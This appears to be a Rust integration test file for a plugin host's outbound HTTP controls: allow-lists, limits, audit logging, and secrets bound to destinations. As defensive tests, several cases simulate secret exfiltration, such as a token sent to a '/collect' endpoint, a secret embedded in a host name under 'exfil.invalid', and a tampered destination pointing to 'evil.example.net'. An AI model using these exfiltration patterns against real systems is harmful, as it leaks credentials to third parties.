//! Outbound HTTP, end to end: the probe plugin sends requests with
//! `keyhole_guest::http` to servers these tests start on 127.0.0.1. No
//! packet goes anywhere else: refusals of private and link-local addresses
//! are proven on the address check (`network::address`'s unit tests) and
//! here with `localhost`, a name that resolves to loopback.

use crate::support::*;
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// A request as the server received it.
#[derive(Debug, Clone)]
pub(crate) struct Received {
    pub(crate) method: String,
    pub(crate) target: String,
    pub(crate) headers: Vec<(String, String)>,
    pub(crate) body: Vec<u8>,
}

impl Received {
    pub(crate) fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(k, _)| k.eq_ignore_ascii_case(name)).map(|(_, v)| v.as_str())
    }
}

/// A local HTTP/1.1 server that records every request and answers by path:
/// `/echo` returns the request (method, target, headers, body) as JSON,
/// `/fields` returns each string field of a JSON body, one per line,
/// `/reflect` repeats the request's `authorization` in `x-reflect`,
/// `/big` returns 1 MiB, `/slow` answers after 3 s, `/redirect` sends a
/// 302 to `/echo`; anything else is `200 ok`.
pub(crate) struct Server {
    port: u16,
    received: Arc<Mutex<Vec<Received>>>,
}

impl Server {
    pub(crate) fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let received = Arc::new(Mutex::new(Vec::new()));
        let log = received.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(conn) = conn else { continue };
                let log = log.clone();
                std::thread::spawn(move || serve(conn, &log));
            }
        });
        Server { port, received }
    }

    pub(crate) fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }

    pub(crate) fn origin(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    pub(crate) fn received(&self) -> Vec<Received> {
        self.received.lock().unwrap().clone()
    }
}

fn serve(conn: TcpStream, log: &Mutex<Vec<Received>>) {
    let mut reader = BufReader::new(conn.try_clone().unwrap());
    let mut conn = conn;
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 {
            return;
        }
        let mut parts = line.split_whitespace();
        let (method, target) = (parts.next().unwrap_or("").to_owned(), parts.next().unwrap_or("").to_owned());
        let mut headers = Vec::new();
        loop {
            let mut h = String::new();
            reader.read_line(&mut h).unwrap();
            let h = h.trim_end();
            if h.is_empty() {
                break;
            }
            let (k, v) = h.split_once(':').unwrap();
            headers.push((k.trim().to_ascii_lowercase(), v.trim().to_owned()));
        }
        let len: usize = headers.iter().find(|(k, _)| k == "content-length").map_or(0, |(_, v)| v.parse().unwrap());
        let mut body = vec![0; len];
        reader.read_exact(&mut body).unwrap();
        let req = Received { method, target, headers, body };
        log.lock().unwrap().push(req.clone());
        let path = req.target.split('?').next().unwrap_or("");
        let (status, extra, body): (&str, String, Vec<u8>) = match path {
            "/echo" => {
                let echo = json!({
                    "method": req.method,
                    "target": req.target,
                    "headers": req.headers,
                    "body": String::from_utf8_lossy(&req.body),
                });
                ("200 OK", String::new(), echo.to_string().into_bytes())
            }
            // Each string field of a JSON body, one per line: a service
            // that answers with part of what it was sent.
            "/fields" => {
                let doc: Value = serde_json::from_slice(&req.body).unwrap_or_default();
                let lines: Vec<&str> = doc.as_object().into_iter().flatten().filter_map(|(_, v)| v.as_str()).collect();
                ("200 OK", String::new(), lines.join("\n").into_bytes())
            }
            "/big" => ("200 OK", String::new(), vec![b'x'; 1 << 20]),
            // How many times this very target was asked for: a flaky task's attempt counter.
            p if p.starts_with("/count/") => {
                let n = log.lock().unwrap().iter().filter(|r| r.target == req.target).count();
                ("200 OK", String::new(), n.to_string().into_bytes())
            }
            "/fail" => ("500 Internal Server Error", String::new(), b"{\"errors\":[\"down\"]}".to_vec()),
            "/slow" => {
                std::thread::sleep(Duration::from_secs(3));
                ("200 OK", String::new(), b"late".to_vec())
            }
            "/redirect" => ("302 Found", "location: /echo\r\n".into(), Vec::new()),
            // A service that repeats the caller's credential in a header.
            "/reflect" => {
                let auth = req.header("authorization").unwrap_or_default().to_owned();
                ("200 OK", format!("x-reflect: {auth}\r\n"), b"ok".to_vec())
            }
            p if p.starts_with("/repos/") && p.ends_with("/issues") && req.method == "POST" => {
                let created = json!({"number": 7, "html_url": format!("https://example.test{}/7", p)});
                ("201 Created", String::new(), created.to_string().into_bytes())
            }
            _ => ("200 OK", String::new(), b"ok".to_vec()),
        };
        let head = format!("HTTP/1.1 {status}\r\n{extra}content-length: {}\r\n\r\n", body.len());
        if conn.write_all(head.as_bytes()).and_then(|_| conn.write_all(&body)).is_err() {
            return;
        }
    }
}

fn http(env: &Env, requests: Value, extra: &[&str]) -> Run {
    env.probe("", &[], json!({"action": "http", "requests": requests}), extra)
}

fn audit_http(env: &Env) -> Vec<Value> {
    let r = env.run(&["audit", "list", "--action", "http.request", "--json"]);
    r.expect_code(0);
    r.json().as_array().unwrap().clone()
}

fn detail(record: &Value) -> Value {
    serde_json::from_str(record["detail"].as_str().unwrap()).unwrap()
}

#[test]
fn without_an_allow_list_no_request_leaves_and_the_refusal_is_audited() {
    let server = Server::start();
    let env = Env::new();
    let r = http(&env, json!([{"url": server.url("/echo")}]), &[]);
    r.expect_code(0);
    assert_eq!(r.json()[0]["error"], "Denied", "{}", r.stdout);
    assert!(server.received().is_empty(), "nothing reached the server");
    let records = audit_http(&env);
    assert_eq!(records.len(), 1, "{records:?}");
    assert_eq!(records[0]["outcome"], "denied");
    assert_eq!(detail(&records[0])["refused"], "allow-list");
    assert!(r.stderr.contains("may not use the network"), "the operator is told why: {}", r.stderr);
}

#[test]
fn an_allowed_destination_is_reached_and_audited_before_and_after() {
    let server = Server::start();
    let env = Env::new();
    let requests = json!([
        {"method": "POST", "url": server.url("/echo?token=s3cr3t-query-value&page=2"), "headers": {"x-test": "1"}, "body": "hello"},
        {"url": server.url("/redirect")},
    ]);
    let r = http(&env, requests, &["--allow-outbound", &server.origin()]);
    r.expect_code(0);
    let out = r.json();
    assert_eq!(out[0]["status"], 200, "{out}");
    let echo: Value = serde_json::from_str(out[0]["body"].as_str().unwrap()).unwrap();
    assert_eq!(echo["method"], "POST");
    assert_eq!(echo["body"], "hello");
    assert_eq!(out[1]["status"], 302, "redirects are not followed: {out}");
    let got = server.received();
    assert_eq!(got.len(), 2, "the redirect target was not requested: {got:?}");
    assert_eq!(got[0].header("x-test"), Some("1"));

    let records = audit_http(&env);
    let outcomes: Vec<&str> = records.iter().map(|r| r["outcome"].as_str().unwrap()).collect();
    assert_eq!(outcomes, ["pending", "sent", "pending", "sent"], "{records:?}");
    let sent = detail(&records[1]);
    assert_eq!(sent["status"], 200);
    assert_eq!(sent["bytes_out"], 5);
    assert_eq!(sent["method"], "POST");
    assert_eq!(sent["destination"], format!("http://127.0.0.1:{}", server.port));
    assert_eq!(sent["path"], "/echo");
    assert_eq!(sent["query_keys"], json!(["token", "page"]));
    assert!(sent["duration_ms"].is_u64());
    let log = env.run(&["audit", "list", "--json"]).stdout;
    assert!(!log.contains("s3cr3t-query-value"), "query values are never recorded");
    env.run(&["audit", "verify"]).expect_code(0);
}

#[test]
fn the_allow_list_matches_scheme_host_and_port_and_a_loopback_name_is_refused() {
    let server = Server::start();
    let env = Env::new();
    let other = format!("http://127.0.0.1:{}", server.port.wrapping_add(1).max(1));
    // Allowed by name, but `localhost` resolves to loopback: refused unless
    // the loopback address itself is allowed.
    let by_name = format!("http://localhost:{}", server.port);
    let r = http(
        &env,
        json!([{"url": format!("{by_name}/echo")}]),
        &["--allow-outbound", &by_name, "--allow-outbound", &other],
    );
    assert_eq!(r.json()[0]["error"], "AddressProhibited", "{}", r.stdout);
    assert!(
        r.stderr.contains("loopback") && r.stderr.contains(&format!("http://127.0.0.1:{}", server.port)),
        "{}",
        r.stderr
    );
    // Another port of the same address is not allowed, and the operator is
    // told which request matched nothing (not that the task has no network).
    let r = http(&env, json!([{"url": server.url("/echo")}]), &["--allow-outbound", &other]);
    assert_eq!(r.json()[0]["error"], "Denied", "{}", r.stdout);
    assert!(r.stderr.contains("matches no entry of the task's allow-list"), "{}", r.stderr);
    // https to the allowed http origin is another destination.
    let r = http(
        &env,
        json!([{"url": server.url("/echo").replace("http://", "https://")}]),
        &["--allow-outbound", &server.origin()],
    );
    assert_eq!(r.json()[0]["error"], "Denied", "{}", r.stdout);
    assert!(server.received().is_empty(), "{:?}", server.received());
    let refused: Vec<String> =
        audit_http(&env).iter().map(|r| detail(r)["refused"].as_str().unwrap().to_owned()).collect();
    assert_eq!(refused, ["private-address", "allow-list", "allow-list"]);
    // With the literal allowed too, the name works.
    let both = ["--allow-outbound", &by_name, "--allow-outbound", &server.origin()];
    let r = http(&env, json!([{"url": format!("{by_name}/echo")}]), &both);
    assert_eq!(r.json()[0]["status"], 200, "{}", r.stdout);
}

#[test]
fn limits_fail_the_request_not_the_task() {
    let server = Server::start();
    let env = Env::new();
    let allow = ["--allow-outbound", &server.origin()];
    let r = http(
        &env,
        json!([{"url": server.url("/a")}, {"url": server.url("/b")}]),
        &[&allow[..], &["--max-requests", "1"]].concat(),
    );
    r.expect_code(0);
    assert_eq!(r.json()[0]["status"], 200);
    assert!(r.json()[1]["error"].as_str().unwrap().contains("Limit"), "{}", r.stdout);
    let r = http(&env, json!([{"url": server.url("/big")}]), &[&allow[..], &["--max-response-body", "64KiB"]].concat());
    assert!(r.json()[0]["error"].as_str().unwrap().contains("65536"), "{}", r.stdout);
    // A limit is inclusive: exactly the limit passes, a byte more does not,
    // whether it comes in many pieces (1 MiB) or in one (`ok`).
    let r = http(&env, json!([{"url": server.url("/big")}]), &[&allow[..], &["--max-response-body", "1MiB"]].concat());
    assert_eq!(r.json()[0]["status"], 200, "{}", r.stdout);
    let r = http(&env, json!([{"url": server.url("/a")}]), &[&allow[..], &["--max-response-body", "1B"]].concat());
    assert!(r.json()[0]["error"].as_str().is_some_and(|e| e.contains("response body over 1 bytes")), "{}", r.stdout);
    let exactly = json!([{"method": "POST", "url": server.url("/echo"), "body": "x".repeat(1024)},
                         {"method": "POST", "url": server.url("/echo"), "body": "x".repeat(1025)}]);
    let r = http(&env, exactly, &[&allow[..], &["--max-request-body", "1KiB"]].concat());
    assert_eq!(r.json()[0]["status"], 200, "{}", r.stdout);
    assert!(r.json()[1]["error"].as_str().is_some_and(|e| e.contains("1024")), "{}", r.stdout);
    let r = http(
        &env,
        json!([{"method": "POST", "url": server.url("/echo"), "body": "x".repeat(5000)}]),
        &[&allow[..], &["--max-request-body", "1KiB"]].concat(),
    );
    assert!(r.json()[0]["error"].as_str().unwrap().contains("1024"), "{}", r.stdout);
    // Far over the limit, the host stops reading the body while the plugin
    // still writes it: the plugin still learns why, not only that the
    // stream closed.
    let r = http(
        &env,
        json!([{"method": "POST", "url": server.url("/echo"), "body": "x".repeat(100 * 1024)}]),
        &[&allow[..], &["--max-request-body", "1KiB"]].concat(),
    );
    assert!(r.json()[0]["error"].as_str().unwrap().contains("1024"), "{}", r.stdout);
    let r = http(
        &env,
        json!([{"url": server.url("/slow")}, {"url": server.url("/a")}]),
        &[&allow[..], &["--request-timeout", "500ms"]].concat(),
    );
    r.expect_code(0);
    assert!(r.json()[0]["error"].as_str().unwrap().contains("Timeout"), "{}", r.stdout);
    assert_eq!(r.json()[1]["status"], 200, "the task goes on after a timeout: {}", r.stdout);
    let got: Vec<String> = server.received().iter().map(|r| r.target.clone()).collect();
    assert!(!got.iter().any(|t| t == "/b"), "the request over the count was not sent: {got:?}");
}

#[test]
fn flows_allow_per_task_and_validate_names_bad_entries_with_line_and_column() {
    let server = Server::start();
    let env = Env::new();
    let probe = crate::plugins::component(crate::plugins::Plugin::Probe);
    let flow = env.home().join("net.yaml");
    let req = json!({"action": "http", "requests": [{"url": server.url("/echo")}]});
    std::fs::write(
        &flow,
        format!(
            "id: net\ntasks:\n  - id: allowed\n    plugin: {p}\n    network:\n      allow: [\"{origin}\"]\n    input: {req}\n  - id: other\n    plugin: {p}\n    input: {req}\n",
            p = probe.display(),
            origin = server.origin(),
        ),
    )
    .unwrap();
    let r = env.run(&["run", flow.to_str().unwrap(), "--json"]);
    r.expect_code(0);
    let out = r.json();
    assert_eq!(out["tasks"][0]["output"][0]["status"], 200, "{out}");
    assert_eq!(out["tasks"][1]["output"][0]["error"], "Denied", "a task never gets another task's allow-list: {out}");

    let bad = env.home().join("bad.yaml");
    std::fs::write(
        &bad,
        format!(
            "id: bad\ntasks:\n  - id: a\n    plugin: {}\n    network:\n      allow: [\"https://example.com/repos\"]\n",
            probe.display()
        ),
    )
    .unwrap();
    let r = env.run(&["validate", bad.to_str().unwrap()]);
    assert_ne!(r.code, 0);
    assert!(
        r.stdout.contains("paths are not allowed") || r.stderr.contains("paths are not allowed"),
        "{}{}",
        r.stdout,
        r.stderr
    );
    assert!(r.all_output().contains("bad.yaml:6:"), "file:line:column: {}", r.all_output());
}

fn http_with(env: &Env, secret: &str, requests: Value, extra: &[&str]) -> Run {
    let input = json!({"action": "http", "secret": secret, "requests": requests});
    env.probe("", &[secret], input, extra)
}

#[test]
fn a_bound_secret_never_reaches_the_plugin_and_is_injected_toward_its_destination() {
    let server = Server::start();
    let env = Env::new();
    let value = "tok-3f9a/77+x";
    let r = env
        .run_with(env.host().args(["secret", "set", "API_TOKEN", "--destination", &server.origin()]), value.as_bytes());
    r.expect_code(0);
    let described = env.run(&["secret", "describe", "API_TOKEN", "--json"]).json();
    assert_eq!(described["destinations"], json!([format!("{}", server.origin())]), "{described}");

    // The plugin asks for the value and gets a placeholder.
    let leak = env.probe("", &["API_TOKEN"], json!({"action": "leak", "name": "API_TOKEN"}), &[]);
    leak.expect_code(0);
    let placeholder = leak.json()["value"].as_str().unwrap().to_owned();
    assert!(placeholder.starts_with("khp_") && !placeholder.contains(value), "{placeholder}");

    let requests = json!([{
        "method": "POST",
        "url": server.url("/echo?key={secret}"),
        "headers": {
            "authorization": "Bearer {secret}",
            "x-basic": "Basic {secret}.basic(alice)",
            "x-signature": "sha256={secret}.hmac-sha256-hex(body)",
        },
        "body": "{\"token\":\"{secret}\"}",
    }]);
    let r = http_with(&env, "API_TOKEN", requests, &["--allow-outbound", &server.origin()]);
    r.expect_code(0);
    let got = server.received();
    assert_eq!(got.len(), 1);
    let req = &got[0];
    assert_eq!(req.header("authorization"), Some(format!("Bearer {value}").as_str()));
    use base64::Engine as _;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("alice:{value}"));
    assert_eq!(req.header("x-basic"), Some(format!("Basic {basic}").as_str()));
    let body = format!("{{\"token\":\"{value}\"}}");
    assert_eq!(req.body, body.as_bytes());
    use hmac::Mac;
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(value.as_bytes()).unwrap();
    mac.update(body.as_bytes());
    assert_eq!(
        req.header("x-signature"),
        Some(format!("sha256={}", hex::encode(mac.finalize().into_bytes())).as_str())
    );
    assert_eq!(req.target, "/echo?key=tok%2D3f9a%2F77%2Bx", "the value is percent-encoded in the URL");

    // The echo came back scrubbed: the plugin never saw the value.
    assert!(!r.all_output().contains(value), "{}", r.all_output());
    let echoed = r.json()[0]["body"].as_str().unwrap().to_owned();
    assert!(echoed.contains("***"), "{echoed}");
    // Nor in a header the service repeats it in: the task's own digest of
    // what it received (which the output's masking cannot touch) is of the
    // scrubbed text.
    let reflect = json!([{"url": server.url("/reflect"), "headers": {"authorization": "Bearer {secret}"}}]);
    let r = http_with(&env, "API_TOKEN", reflect, &["--allow-outbound", &server.origin()]);
    r.expect_code(0);
    let seen =
        r.json()[0]["header_sha256"].as_array().unwrap().iter().find(|h| h[0] == "x-reflect").unwrap()[1].clone();
    use sha2::Digest as _;
    assert_eq!(seen, json!(hex::encode(sha2::Sha256::digest(b"Bearer ***"))), "{}", r.stdout);
    let records = audit_http(&env);
    let pending = records.iter().find(|r| r["outcome"] == "pending").unwrap();
    assert_eq!(detail(pending)["injected"], json!(["API_TOKEN"]));
    let reads = env.run(&["audit", "list", "--secret", "API_TOKEN", "--json"]).json();
    assert!(
        reads.as_array().unwrap().iter().any(|r| r["detail"].as_str().is_some_and(|d| d.contains("bound_to"))),
        "{reads}"
    );
    assert!(!env.run(&["audit", "list", "--json"]).stdout.contains(value));
}

#[test]
fn a_placeholder_sent_anywhere_else_stops_the_request_and_is_audited_as_exfiltration() {
    let bound_to = Server::start();
    let elsewhere = Server::start();
    let env = Env::new();
    env.run_with(env.host().args(["secret", "set", "API_TOKEN", "--destination", &bound_to.origin()]), b"v4lue-xyz")
        .expect_code(0);
    let allow = ["--allow-outbound", &bound_to.origin(), "--allow-outbound", &elsewhere.origin()];
    let r = http_with(&env, "API_TOKEN", json!([{"url": elsewhere.url("/collect?t={secret}")}]), &allow);
    r.expect_code(0);
    assert_eq!(r.json()[0]["error"], "Denied", "{}", r.stdout);
    assert!(elsewhere.received().is_empty(), "nothing was sent: {:?}", elsewhere.received());
    let refused = audit_http(&env);
    assert_eq!(detail(&refused[0])["refused"], "destination-binding", "{refused:?}");
    assert!(refused[0]["reason"].as_str().unwrap().contains("not bound"), "{refused:?}");

    // Unbinding is audited, and then the task gets the value itself.
    env.run(&["secret", "bind", "API_TOKEN", "--clear"]).expect_code(0);
    let leak = env.probe("", &["API_TOKEN"], json!({"action": "leak", "name": "API_TOKEN"}), &[]);
    assert_eq!(leak.json()["value"], "***", "the real value, masked in output: {}", leak.stdout);
    let binds = env.run(&["audit", "list", "--action", "secret.bind", "--json"]).json();
    assert_eq!(binds.as_array().unwrap().len(), 1, "{binds}");
}

#[test]
fn an_edited_row_cannot_unbind_a_secret() {
    let server = Server::start();
    let env = Env::new();
    env.run_with(env.host().args(["secret", "set", "API_TOKEN", "--destination", &server.origin()]), b"v4lue-xyz")
        .expect_code(0);
    rusqlite::Connection::open(env.db()).unwrap().execute_batch("UPDATE secrets SET destinations = NULL").unwrap();
    let leak = env.probe("", &["API_TOKEN"], json!({"action": "leak", "name": "API_TOKEN"}), &[]);
    assert!(!leak.all_output().contains("v4lue-xyz"), "{}", leak.all_output());
    assert!(leak.stdout.contains("unavailable") || leak.all_output().contains("integrity"), "{}", leak.all_output());
    let widened = format!("[\"{}\",\"https://evil.example.net:443\"]", server.origin());
    let env2 = Env::new();
    env2.run_with(env2.host().args(["secret", "set", "API_TOKEN", "--destination", &server.origin()]), b"v4lue-xyz")
        .expect_code(0);
    rusqlite::Connection::open(env2.db()).unwrap().execute("UPDATE secrets SET destinations = ?1", [widened]).unwrap();
    let leak = env2.probe("", &["API_TOKEN"], json!({"action": "leak", "name": "API_TOKEN"}), &[]);
    assert!(!leak.all_output().contains("v4lue-xyz") && !leak.stdout.contains("khp_"), "{}", leak.all_output());
}

#[test]
fn nothing_is_sent_when_the_audit_record_cannot_be_written() {
    let server = Server::start();
    let env = Env::new();
    let input = json!({"action": "http", "wait_ms": 1500, "requests": [{"url": server.url("/echo")}]}).to_string();
    // Once the task runs, another process takes the write lock and holds it.
    let mut cmd = env.host();
    cmd.env("KEYHOLE_BUSY_TIMEOUT_MS", "200")
        .arg("exec")
        .arg(crate::plugins::component(crate::plugins::Plugin::Probe))
        .args(["--allow-outbound", &server.origin(), "--input", &input]);
    let (child, _stderr) = start_until(&mut cmd, "[probe] waiting");
    let conn = rusqlite::Connection::open(env.db()).unwrap();
    conn.execute_batch("BEGIN IMMEDIATE").unwrap();
    let out = child.wait_with_output().unwrap();
    conn.execute_batch("ROLLBACK").unwrap();
    let result: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(result[0]["error"].as_str().unwrap().contains("audit log"), "{result}");
    assert!(server.received().is_empty(), "the request left without its record: {:?}", server.received());
}

#[test]
fn https_to_a_private_ca_needs_its_ca_file_and_a_bad_certificate_is_an_error() {
    let env = Env::new();
    let dir = env.home().join("tls");
    std::fs::create_dir_all(&dir).unwrap();
    if !private_ca(&dir) {
        return;
    }
    let server = TlsServer::start(&dir);
    let port = server.port;
    let origin = format!("https://127.0.0.1:{port}");
    let ca = dir.join("ca.pem");
    let requests = json!([{"url": format!("{origin}/")}]);
    let r = http(&env, requests.clone(), &["--allow-outbound", &origin, "--ca-file", ca.to_str().unwrap()]);
    r.expect_code(0);
    assert_eq!(r.json()[0]["status"], 200, "{}", r.stdout);
    let r = http(&env, requests, &["--allow-outbound", &origin]);
    r.expect_code(0);
    assert!(r.json()[0]["error"].as_str().unwrap().contains("TlsCertificateError"), "{}", r.stdout);
}

#[test]
fn the_example_flow_delivers_the_report_signed_by_the_host_and_no_task_holds_the_key() {
    let server = Server::start();
    let env = Env::new();
    let key = "whsec_example_key_42";
    let origin = server.origin();
    env.run_with(
        env.host().args(["secret", "set", "WEBHOOK_SIGNING_KEY", "-n", "finance", "--destination", &origin]),
        key.as_bytes(),
    )
    .expect_code(0);
    // The example flow as shipped, pointed at this test's receiver.
    let shipped =
        std::fs::read_to_string(crate::plugins::workspace().join("plugins/flows/nightly-sales-report.yaml")).unwrap();
    let deliver = crate::plugins::component(crate::plugins::Plugin::WebhookRequest);
    let text = shipped
        .replace("http://127.0.0.1:8087", &origin)
        .replace("../../target/plugins/wasm32-wasip2/release/webhook_request.wasm", deliver.to_str().unwrap());
    let flow = env.home().join("nightly.yaml");
    std::fs::write(&flow, text).unwrap();
    let r = env.run_with(env.host().arg("run").arg(&flow).args(["--json", "--input", "day=2026-11-27"]), b"");
    r.expect_code(0);
    let rec = r.json();
    assert_eq!(rec["tasks"][0]["output"]["status"], 200, "{rec}");
    let got = server.received();
    assert_eq!(got.len(), 1, "{got:?}");
    let body = br#"{"report":"sales","day":"2026-11-27"}"#;
    assert_eq!(got[0].body, body);
    use hmac::Mac;
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(key.as_bytes()).unwrap();
    mac.update(body);
    let expected = format!("sha256={}", hex::encode(mac.finalize().into_bytes()));
    assert_eq!(got[0].header("x-hub-signature-256"), Some(expected.as_str()));
    assert_eq!(got[0].header("x-keyhole-execution"), rec["id"].as_str());
    assert!(!r.all_output().contains(key));
    // The record is kept and can be shown again.
    let id = rec["id"].as_str().unwrap();
    assert_eq!(env.run(&["executions", "show", id, "--json"]).expect_code(0).json(), rec);
    // Unbound, the plugin refuses rather than hold the key; a required input left out is a usage error.
    env.run(&["secret", "bind", "WEBHOOK_SIGNING_KEY", "-n", "finance", "--clear"]).expect_code(0);
    let r = env.run_with(env.host().arg("run").arg(&flow).args(["--input", "day=2026-11-27"]), b"");
    assert!(r.all_output().contains("is not bound to the receiver"), "{}", r.all_output());
    let r = env.run_with(env.host().arg("run").arg(&flow), b"");
    r.expect_code(2);
    assert!(r.stderr.contains("needs input `day`: pass --input day=VALUE"), "{}", r.stderr);
    assert_eq!(server.received().len(), 1, "nothing more was sent");
}

#[test]
fn the_api_example_sends_a_bearer_token_it_never_holds() {
    let server = Server::start();
    let env = Env::new();
    let token = "ghp_example0123456789";
    let origin = server.origin();
    env.run_with(env.host().args(["secret", "set", "GITHUB_TOKEN", "--destination", &origin]), token.as_bytes())
        .expect_code(0);
    let plugin = crate::plugins::component(crate::plugins::Plugin::OpenIssue);
    let input = json!({"api": origin, "repo": "acme/app", "title": "nightly job failed"}).to_string();
    let r = env.run_with(
        env.host().arg("exec").arg(&plugin).args([
            "--grant",
            "GITHUB_TOKEN",
            "--allow-outbound",
            &origin,
            "--input",
            &input,
        ]),
        b"",
    );
    r.expect_code(0);
    assert_eq!(r.json()["number"], 7, "{}", r.stdout);
    let got = server.received();
    assert_eq!(got[0].target, "/repos/acme/app/issues");
    assert_eq!(got[0].header("authorization"), Some(format!("Bearer {token}").as_str()));
    assert!(!r.all_output().contains(token));
}

#[test]
fn requests_beyond_the_concurrency_limit_fail_while_the_others_go_through() {
    let server = Server::start();
    let env = Env::new();
    let input = json!({"action": "http_burst", "url": server.url("/slow"), "n": 3});
    let r = env.probe("", &[], input, &["--allow-outbound", &server.origin(), "--max-concurrent-requests", "2"]);
    r.expect_code(0);
    let out = r.json();
    let statuses: Vec<&Value> =
        out.as_array().unwrap().iter().map(|x| x.get("status").unwrap_or(&x["error"])).collect();
    let ok = statuses.iter().filter(|s| **s == 200).count();
    let limited = statuses.iter().filter(|s| s.as_str().is_some_and(|e| e.contains("ConnectionLimitReached"))).count();
    assert_eq!((ok, limited), (2, 1), "{out}");
    assert_eq!(server.received().len(), 2);
    // One at a time, any number go through: each frees its slot.
    let one_by_one: Vec<Value> = (0..4).map(|i| json!({"url": server.url(&format!("/n{i}"))})).collect();
    let r = http(&env, json!(one_by_one), &["--allow-outbound", &server.origin(), "--max-concurrent-requests", "2"]);
    let statuses: Vec<Value> = r.json().as_array().unwrap().iter().map(|x| x["status"].clone()).collect();
    assert_eq!(statuses, vec![json!(200); 4], "{}", r.stdout);
}

/// A real full disk (a 4 MiB tmpfs holding the data directory): the
/// request's record cannot be written, so the request is not sent. Needs
/// root (CI runs as root); elsewhere it says so loudly and stops.
#[test]
fn nothing_is_sent_when_the_disk_is_full() {
    let server = Server::start();
    let env = Env::new();
    let mnt = env.home().join("small");
    let Some(disk) = SmallDisk::mount(&mnt, "nothing_is_sent_when_the_disk_is_full") else { return };
    let home = mnt.join("home");
    let plugin = crate::plugins::component(crate::plugins::Plugin::Probe);
    let input = json!({"action": "http", "requests": [{"url": server.url("/echo")}]}).to_string();
    let exec = || {
        let mut c = env.host();
        c.env("KEYHOLE_HOME", &home).arg("exec").arg(&plugin).args([
            "--allow-outbound",
            &server.origin(),
            "--input",
            &input,
        ]);
        env.run_with(&mut c, b"")
    };
    exec().expect_code(0);
    assert_eq!(server.received().len(), 1, "with space, the request goes out");
    // Another process keeps the database open, so its shared-memory index
    // exists and the host can still open the store; then fill the disk.
    let reader = rusqlite::Connection::open(home.join("keyhole.db")).unwrap();
    reader.query_row("SELECT count(*) FROM audit", [], |r| r.get::<_, i64>(0)).unwrap();
    disk.fill();
    let r = exec();
    let out: Value = serde_json::from_str(&r.stdout).unwrap_or(Value::Null);
    r.expect_code(0);
    assert!(
        out[0]["error"].as_str().is_some_and(|e| e.contains("the audit log could not be written; nothing was sent")),
        "the request must fail, and the task go on: {r:?}"
    );
    assert_eq!(server.received().len(), 1, "nothing more reached the server: {:?}", server.received());
    disk.free();
    drop(reader);
    let v = env.run_with(env.host().env("KEYHOLE_HOME", &home).args(["audit", "verify"]), b"");
    v.expect_code(0);
}

#[test]
fn a_secret_in_a_refused_host_name_is_masked_in_the_audit_log_and_the_terminal() {
    let env = Env::new();
    env.set_secret("", "K", "leakyvalue123");
    let requests = json!([{"url": "http://{secret}.exfil.invalid/x"}]);
    let r = http_with(&env, "K", requests, &["--allow-outbound", "http://127.0.0.1:9"]);
    r.expect_code(0);
    assert_eq!(r.json()[0]["error"], "Denied", "{}", r.stdout);
    assert!(!r.all_output().contains("leakyvalue123"), "{}", r.all_output());
    let log = env.run(&["audit", "list", "--json"]).stdout;
    assert!(!log.contains("leakyvalue123"), "{log}");
    assert!(log.contains("***.exfil.invalid"), "{log}");
}
